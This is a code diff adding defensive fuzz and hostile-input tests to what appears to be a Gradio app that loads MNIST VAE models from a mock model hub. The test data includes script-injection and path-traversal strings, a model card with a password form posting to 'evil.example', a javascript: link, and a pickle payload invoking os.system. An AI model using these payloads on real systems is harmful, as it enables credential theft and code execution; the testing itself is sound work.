@@ -30,7 +30,10 @@ from urllib.parse import urlsplit
 import gradio
 import gradio.routes
 import paths  # noqa: F401
+from hub_server import HubServer
 from support import App, resident, widget_call
+
+from hfvae import hub
 
 MODEL = "mnist-dense-2d"
 MOST_AT_ONCE, MOST_IN_THE_END = 256, 64  # MiB
@@ -229,6 +232,75 @@ def hostile_drawings_and_points(target: Target, count: int) -> str:
     return repeated(count, once)
 
 
+@attack
+def hostile_links(target: Target, count: int) -> str:
+    """Addresses of the page as somebody may send them; what they say is read in the page alone."""
+    luck = random.Random(2)
+    parts = ["model", "z", "1abc,0x10", "NaN", "%00", "<script>", "1e999", "..%2f..%2f", "'", "%F0%9F", "&", "=", ";"]
+
+    def once(_: int) -> str:
+        query = "".join(luck.choices(parts, k=luck.randrange(1, 12)))
+        return target.ask("GET", f"/?{query}")[0]
+
+    return repeated(count // 10, once)
+
+
+REPOSITORIES = 24
+CARD = b"""---
+license: mit
+---
+<script>window.hacked = 1</script> <form action="http://evil.example/"><input type="password"></form>
+![a](http://evil.example/a.png) [b](javascript:hacked=2) <style>body { display: none }</style>
+"""
+
+
+def hostile_repositories(folder: Path) -> bool:
+    """Start the app with a sound model beside damaged and hostile ones, and tell whether it shows the sound one."""
+    luck = random.Random(3)
+    sound = {path.name: path.read_bytes() for path in (hub.BUNDLED / MODEL).iterdir() if path.is_file()}
+    names = [f"user/evil{number}" for number in range(REPOSITORIES)]
+    with HubServer() as server:
+        for name in names:
+            server.put(name, spoiled(sound, luck))
+        models = [part for name in ("user/sound", *names) for part in ("--model", name)]
+        server.put("user/sound", sound)
+        app = App(folder / "repositories", *models, **server.env(folder / "home"))
+        try:
+            target = Target(app.url, app.process.pid)
+            shown = target.json("/healthz")["models"]
+            page = json.dumps(target.config)
+            call = widget_call(target.config, data={"model": shown[0], "z": [[0, 0]]})
+            status, answer = target.post("component_server", call)
+            memory = resident(app.process.pid)
+        finally:
+            app.stop()
+    clean = not any(word in page for word in ("<script>window.hacked", "<form action", 'href=\\"javascript'))
+    traced = "Traceback" in (folder / "repositories").read_text()
+    outcome = f"{len(shown)} of {REPOSITORIES + 1} shown; {status}"
+    print(f"{'hostile repositories and cards':42} {'':7} {memory:7.0f} {'':7}  {outcome}")
+    return status == "200" and b"images" in answer and clean and not traced
+
+
+def spoiled(files: dict[str, bytes], luck: random.Random) -> dict[str, bytes]:
+    """The files of a model, one of them damaged or replaced, with a hostile card."""
+    changed = {**files, hub.CARD: CARD * luck.choice([1, 1, 20_000])}
+    name = luck.choice([hub.CONFIG, hub.WEIGHTS, hub.LATENTS, hub.CARD])
+    content = changed[name]
+    place = luck.randrange(len(content))
+    changed[name] = luck.choice(
+        [
+            content[:place],
+            content[:place] + luck.randbytes(200) + content[place + 200 :],
+            luck.randbytes(10_000),
+            b"[" * 500_000,
+            b"\x80\x04cos\nsystem\n(S'true'\ntR.",
+            content.replace(b'"latent_dim": 2', b'"latent_dim": 99999999'),
+            content.replace(b"MNIST", b"\xff<script>"),
+        ]
+    )
+    return changed
+
+
 @contextmanager
 def watched(target: Target) -> Iterator[list[float]]:
     """The only entry is the server's memory at its peak."""
@@ -285,6 +357,7 @@ def main() -> None:
             ok = run(Target(app.url, app.process.pid), options.requests, options.attacks)
         finally:
             app.stop()
+        ok = hostile_repositories(Path(folder)) and ok
         size = (Path(folder) / "log").stat().st_size
         print(f"the log has {size / 1e3:.0f} kB")
     sys.exit(not ok)
